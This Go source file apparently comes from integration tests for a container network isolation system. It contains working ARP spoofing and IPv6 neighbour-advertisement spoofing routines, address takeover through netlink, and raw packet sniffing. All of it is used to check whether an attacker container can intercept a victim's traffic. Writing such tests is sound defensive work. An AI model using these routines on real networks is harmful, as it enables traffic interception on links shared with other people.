package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/particle-net/particle/integration/sockets/sock"
)

// linkName is how a container calls its link.
const linkName = "eth0"

// linkCases are for attackers with a namespace and a link of their own, where they may do
// everything: they say there that an address is behind their link, or give it to the link.
// Who believes them is reached by another's name, and sends them what is another's.
func linkCases() []Case {
	var cases []Case
	for _, t := range []transport{udp4, udp6} {
		cases = append(cases,
			Case{"link/" + t.name + "-lie", func(a *attacker) verdict { return a.lure(t, a.lie) }},
			Case{"link/" + t.name + "-take", func(a *attacker) verdict { return a.lure(t, a.take) }})
	}
	for _, t := range []transport{udp4, udp6, tcp4, tcp6} {
		cases = append(cases, Case{"link/" + t.name + "-speak", func(a *attacker) verdict {
			if err := a.take(t); err != nil {
				return failed(err)
			}
			return a.pretend(t, fromBound(), false)
		}})
	}
	return cases
}

// lure lets the victim send to an address of nobody's, and then claims that it is behind
// the own link. It sees whether what the victim has sent comes in there.
func (a *attacker) lure(t transport, claim func(transport) error) verdict {
	link, err := net.InterfaceByName(linkName)
	if err != nil {
		return failed(unix.ENODEV)
	}
	fd, err := a.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_ALL)))
	if err == nil {
		err = a.Bind(fd, linkLayer(link.Index, unix.ETH_P_ALL, nil))
	}
	if err != nil {
		return failed(err)
	}
	a.victimCalls(t, netip.AddrPortFrom(t.pick(a.Third), portFree), 1)
	if err := claim(t); err != nil {
		return failed(err)
	}
	packet := make([]byte, 2048)
	for end := time.Now().Add(patience); time.Now().Before(end); {
		n, _, from, err := a.Receive(fd, packet, nil)
		if err != nil {
			return failed(err)
		}
		own := from.(*unix.SockaddrLinklayer).Pkttype == unix.PACKET_OUTGOING
		if !own && bytes.HasSuffix(packet[:n], []byte(callText)) && bytes.Contains(packet[:n], t.pick(a.Third).AsSlice()) {
			return verdict{success: true}
		}
	}
	return failed(unix.EAGAIN)
}

// take gives the address of nobody's to the own link; neighbours that ask for it are
// answered by the kernel then.
func (a *attacker) take(t transport) error {
	link, err := net.InterfaceByName(linkName)
	if err != nil {
		return unix.ENODEV
	}
	addr := t.pick(a.Third)
	body := []byte{byte(t.family), byte(addr.BitLen()), unix.IFA_F_NODAD, 0} // struct ifaddrmsg
	body = binary.NativeEndian.AppendUint32(body, uint32(link.Index))
	body = append(body, attribute(unix.IFA_LOCAL, addr.AsSlice())...)
	if err := tellNetlink(unix.NETLINK_ROUTE, unix.RTM_NEWADDR, body); err != nil && !errors.Is(err, unix.EEXIST) {
		return err
	}
	return nil
}

// lie answers a question for the address of nobody's that others may have asked.
func (a *attacker) lie(t transport) error {
	link, err := net.InterfaceByName(linkName)
	if err != nil {
		return unix.ENODEV
	}
	if t.family == unix.AF_INET {
		return a.tell(link, unix.ETH_P_ARP, answerARP(link.HardwareAddr, t.pick(a.Third)))
	}
	return a.tell(link, unix.ETH_P_IPV6, advertisement(link.HardwareAddr, t.pick(a.Third)))
}

// tell says something to everybody on a link.
func (a *attacker) tell(link *net.Interface, protocol uint16, packet []byte) error {
	fd, err := a.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
	if err == nil {
		_, err = a.Send(fd, sock.Message{Data: packet, To: linkLayer(link.Index, protocol, everybody())})
	}
	return err
}

// answerARP says that an address is at a MAC (RFC 826).
func answerARP(mac net.HardwareAddr, claimed netip.Addr) []byte {
	p := []byte{0, 1, 8, 0, 6, 4, 0, 2}
	p = append(append(p, mac...), claimed.AsSlice()...)
	return append(append(p, everybody()...), claimed.AsSlice()...)
}

// advertisement says the same of an IPv6 address (RFC 4861, section 4.4) to all nodes,
// and that it overrides what they know.
func advertisement(mac net.HardwareAddr, claimed netip.Addr) []byte {
	const override, nextICMP, hops = 0x20, 58, 255
	body := append([]byte{136, 0, 0, 0, override, 0, 0, 0}, claimed.AsSlice()...)
	body = append(append(body, 2, 1), mac...) // the target's link-layer address
	all := netip.MustParseAddr("ff02::1").AsSlice()
	pseudo := append(append(claimed.AsSlice(), all...), 0, 0, 0, byte(len(body)), 0, 0, 0, nextICMP)
	sum := checksum(append(pseudo, body...))
	body[2], body[3] = byte(sum>>8), byte(sum)
	head := append([]byte{0x60, 0, 0, 0, 0, byte(len(body)), nextICMP, hops}, claimed.AsSlice()...)
	return append(append(head, all...), body...)
}
